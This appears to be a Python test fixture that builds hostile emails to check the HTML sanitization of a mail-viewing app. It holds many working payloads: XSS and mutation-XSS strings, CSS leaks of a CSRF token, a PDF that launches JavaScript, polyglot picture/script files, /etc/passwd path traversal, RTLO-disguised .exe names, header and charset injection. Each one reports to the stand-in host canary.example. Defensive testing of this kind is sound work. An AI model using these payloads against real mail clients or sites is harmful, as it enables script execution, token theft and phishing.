"""Whole messages that strangers send to run something, to learn that they were read, or to deceive the eye.

They would all report to CANARY.
"""

import base64
from email.header import Header

from tests.hostile_html import aimed_at
from tests.small_house import BUYER, MAILBOX, ORDER, PIXEL, mail

CANARY = "canary.example"  # as it stands in all of them
_RUN = "console.error('ran');document.title='owned';fetch('http://canary.example/ran')"
_SCRIPT = f"<script>{_RUN}</script>"
_IMG = f'<img src=x onerror="{_RUN}">'
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_RUN}\"><image href='http://canary.example/n.gif'/></svg>"
_JS = f"*/=1;{_RUN};/*".encode()
_PDF = (
    b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(http://canary.example/n.pdf)>>"
    b"/AA<</O<</S/JavaScript/JS(app.launchURL\\('http://canary.example/n.js'\\))>>>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)

# More HTML than what the cleaning is tested with: mutations, leaks by style, what only a whole page is hurt by.
_HTML = {
    "mutation by form": f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    "mutation by style": f'<svg></p><style><a id="</style>{_IMG}">',
    "mutation by annotation": f'<math><annotation-xml encoding="text/html"><style>{_IMG}</style></annotation-xml></math>',
    "mutation by desc": f'<table><td><svg><desc><table><a><style><!--</style></svg><a id="-->{_IMG}">',
    "mutation by select": f'<select><template><style><!--</style><a rel="--></style></select>{_IMG}">',
    "mutation by nesting": "<div>" * 600 + f"<svg><style><img title='</style>{_IMG}'>",
    "leak of a token by style": '<style>input[name=csrf][value^="a"]{background:url(http://canary.example/n.a)} '
    '[name=csrf]{background:url(http://canary.example/n.any)}</style><input name=csrf value="abc">',
    "leak of letters by font": "<style>@font-face{font-family:l;src:url(http://canary.example/n.woff);unicode-range:U+0041-005A}"
    "*{font-family:l!important}</style>ABC",
    "style that imports by itself": "<style>@import url(//canary.example/n.css);@namespace url(http://canary.example/n);"
    "@supports(display:grid){@import '//canary.example/n.2.css'}</style>",
    "style by escapes": '<p style="b\\61ckground:u\\72l(//canary.example/n.gif);beh\\61vior:url(//canary.example/n.htc);-moz-binding:url(//canary.example/n.xml#a)">x</p>',
    "style by variables": "<p style=\"--a:url(//canary.example/n.gif);background:var(--a);src:image-set('//canary.example/n.png' 1x)\">x</p>",
    "hints to the network": "<link rel=dns-prefetch href=//n.canary.example><link rel=modulepreload href=//canary.example/n.mjs>"
    "<link rel=manifest href=//canary.example/n.json><link rel=icon href=//canary.example/n.ico><link rel=prerender href=//canary.example/n>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'; report-uri http://canary.example/n\">"
    f'<meta name=referrer content=unsafe-url><meta http-equiv=Set-Cookie content="docket=owned">{_IMG}',
    "page within the page": f"</body></html><html><head><base target=_top href=//canary.example/></head><body>{_SCRIPT}",
    "end of the frame": f'"></iframe>{_SCRIPT}<iframe srcdoc="',
    "words of our own script": '<div hx-get="/logout" hx-trigger="load" hx-on:load="document.title=\'owned\'" '
    'data-hx-post="//canary.example/n" data-hx-trigger="load">x</div>',
    "names of our own page": "<form id=keys><input name=showModal></form><img name=q id=q><a id=main href=cid:x>",
    "form like ours": "<h1>Session ended</h1><form action=//canary.example/n method=post><input name=name><input name=password "
    "type=password autofocus><button>Log in</button></form>",
    "over the whole page": '<div style="position:fixed;top:-9999px;left:0;width:99999px;height:99999px;z-index:99999;'
    'transform:scale(99);margin:-9999px;background:#fff">Docket: <a href=//canary.example/n target=_parent>log in</a></div>',
    "huge table": "<table>" + "<tr><td colspan=1000 rowspan=60000 width=999999>x" * 300 + "</table>",
    "tables in tables": "<table><tr><td>" * 500 + "x",
    "address without a scheme": r"<img src='\\canary.example\n.gif'><img src='/\canary.example/n.2.gif'><img src='https:/canary.example/n.3.gif'>"
    "<img src='ht\ntp://canary.example/n.4.gif'><a href='\x01javascript:alert(1)'>x</a>",
    "other schemes": "<img src='ftp://canary.example/n'><iframe src='blob:http://canary.example/n'></iframe><img src='filesystem:http://canary.example/n'>"
    "<a href='vbscript:x'>x</a><iframe src='view-source:http://canary.example/n'></iframe><img src='ws://canary.example/n'>",
    "page in an address": f"<a href='data:text/html,{_SCRIPT}'>x</a><object data='data:text/html;base64,"
    + base64.b64encode(_SCRIPT.encode()).decode()
    + "'></object><img src='data:text/html,<b>x</b>'>",
    "comments that end early": f"<!--><!---->{_IMG}<!--->{_IMG}--><![CDATA[{_IMG}]]><?php {_IMG} ?><!{_IMG}>",
    "words turned about": "<p>Refund \u202eevoba eht lla\u202c <bdo dir=rtl>.live si siht</bdo> \u2066x\u2069</p>",
}


def _with(name, type_, data, cid="p@h", html="<img src='cid:p@h'>"):
    return {"html": html, "files": [(name, type_, data, cid)]}


# What stands in a message's parts: files that are two things, and names and types that are none.
_FILES = {
    "picture that is a script": _with("a.gif", "image/gif", b"GIF89a/*\x01\x00\x80\x00\x00" + _JS),
    "picture that is drawn by a script": _with("a.svg", "image/svg+xml", _SVG.encode()),
    "drawing that says it is a photograph": _with("a.png", "image/png", _SVG.encode()),
    "page that says it is a photograph": _with("a.jpg", "image/jpeg", f"<html>{_SCRIPT}".encode()),
    "page behind a picture": _with("a.html", "text/html", PIXEL + f"<html>{_SCRIPT}".encode()),
    "picture with a page behind it": _with("a.png", "image/png", PIXEL + f"<html>{_SCRIPT}".encode()),
    "document that opens a page": _with("a.pdf", "application/pdf", _PDF, cid=""),
    "document that is a page": _with("a.pdf", "application/pdf", f"{_SCRIPT}<!--".encode() + _PDF, cid=""),
    "page as a file": _with("a.html", "text/html", _SCRIPT.encode(), cid="", html=""),
    "name with a script": _with(f'"><svg onload={_RUN.split(";", maxsplit=1)[0]}>.txt', "text/plain", b"x", cid=""),
    "name with a path": _with("../../../etc/passwd\\..\\..\\x.html", "text/html", _SCRIPT.encode(), cid=""),
    "name turned about": _with("Rechnung\u202efdp.exe", "application/octet-stream", b"MZ", cid=""),
    "picture's name with a script": _with(f"{_IMG}.png", "image/png", PIXEL),
    "reference with a script": _with("a.png", "image/png", PIXEL, html=f"<img src='cid:\"{_IMG}'><img src=cid:p@h{_IMG}>"),
    "message in a message": {"files": [("x.eml", "application/x-eml", mail("in", "x", html=_SCRIPT + _IMG), "")]},
}  # fmt: skip

_PLAIN = {
    "markup as text": f"{_SCRIPT}{_IMG}</pre></div>{_SVG}\n> </pre>{_IMG}\n",
    "template as text": "{{ config }} {% include '/etc/passwd' %} ${7*7} {{ 7*'7' }} <%= 1 %> #{x}",
    "addresses as text": "javascript:alert(1) http://canary.example/n <a href='http://canary.example/ran'>x</a> data:text/html,<script>x</script>",
    "signs that steer": "\x1b]0;owned\x07\x1b[2J\x00\x08\x08\u202e\u2066\u200b\ufeff<b>x</b>\x7f\x9b2J",
}

# What stands in header fields, where a page shows them: each is a line of its own, as no library would write it.
HEADERS = {
    "subject with a script": f"Subject: {_SCRIPT}{_IMG}",
    "subject in disguise": "Subject: " + Header(f"</title>{_IMG}", "utf-8", maxlinelen=10**6).encode(),
    "subject with line ends": "Subject: =?utf-8?q?a=0D=0A=0D=0A=3Cscript=3E" + "x=3C/script=3E?=",
    "subject turned about": "Subject: =?utf-8?b?"
    + base64.b64encode("\u202eevael \u2066x".encode()).decode()
    + "?=",
    "sender with a script": f"From: =?utf-8?b?{base64.b64encode(_IMG.encode()).decode()}?= <{BUYER}>",
    "sender in quotes": f'From: "\'\\"><script src=//canary.example/n></script>" <{BUYER}>',
    "recipient with a script": f'To: "{_SVG.replace(chr(34), chr(92) + chr(34))}" <{MAILBOX}>',
    "copy with a script": f"Cc: <img src=//canary.example/n.gif>, {'x' * 300}@{_IMG}",
    "identity with a script": f'Message-ID: <"><script src=//canary.example/n></script>@{_IMG}>',
    "field with a script": f"X-Mailer: {_SCRIPT}\r\nX-<script>: x\r\nList-Unsubscribe: <http://canary.example/n>, <javascript:{_RUN}>",
    "authenticity of its own": f"Authentication-Results: docket.brand.example; dkim=pass {_SCRIPT}\r\nX-Docket-Tags: {_IMG}",
    "type with a script": f'Content-Type: text/html; charset="{_IMG}"; name="{_SCRIPT}"',
    "receipt wanted": "Disposition-Notification-To: spy@canary.example\r\nReturn-Receipt-To: spy@canary.example",
}

_CHARSETS = {
    "seven-bit disguise": ("utf-7", f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-".encode()),
    "Japanese disguise": ("iso-2022-jp", f'\x1b(J<img src="x\x1b$B" onerror={_RUN}\x1b(B>'.encode()),
    "wide letters": ("utf-16", _SCRIPT.encode("utf-16")),
    "letters that eat quotes": ("gbk", b'<img alt="\xbf"><img src=x onerror=' + _RUN.encode() + b' alt="">'),
    "unknown letters": ("x-user-defined", _IMG.encode()),
}  # fmt: skip


def _raw(field: str = "", type_: str = "text/plain; charset=utf-8", body: bytes = b"x") -> bytes:
    """Return a message whose header holds ``field`` in place of its own field of that name."""
    fields = {
        "From": f"From: Maria <{BUYER}>",
        "To": f"To: {MAILBOX}",
        "Subject": "Subject: Hostile",
        "Message-ID": "Message-ID: <h@mail.example>",
        "Date": "Date: Mon, 23 Nov 2026 08:15:00 +0000",
        "MIME-Version": "MIME-Version: 1.0",
        "Content-Type": f"Content-Type: {type_}",
        "X-Order": f"X-Order: {ORDER}",
    }
    fields[field.partition(":")[0] or "X"] = field or "X: x"
    return (
        "\r\n".join(fields.values()).encode("utf-8") + b"\r\n\r\n" + body + f"\r\nOrder {ORDER}\r\n".encode()
    )


def hostile_mails() -> dict[str, bytes]:
    """Return the messages by name, all about one order."""
    told = f"Bestellung {ORDER}\n"
    made = {f"html {n}": mail(f"Hostile {n}", told, html=html) for n, html in enumerate(aimed_at(CANARY))}
    made |= {name: mail(name, told, html=html) for name, html in _HTML.items()}
    made |= {name: mail(name, told, **parts) for name, parts in _FILES.items()}
    made |= {name: _raw(f"Subject: {name}", body=text.encode()) for name, text in _PLAIN.items()}
    made |= {name: _raw(field, body=_SCRIPT.encode()) for name, field in HEADERS.items()}
    made |= {
        name: _raw(f"Subject: {name}", f"text/html; charset={charset}", body)
        for name, (charset, body) in _CHARSETS.items()
    }
    return made
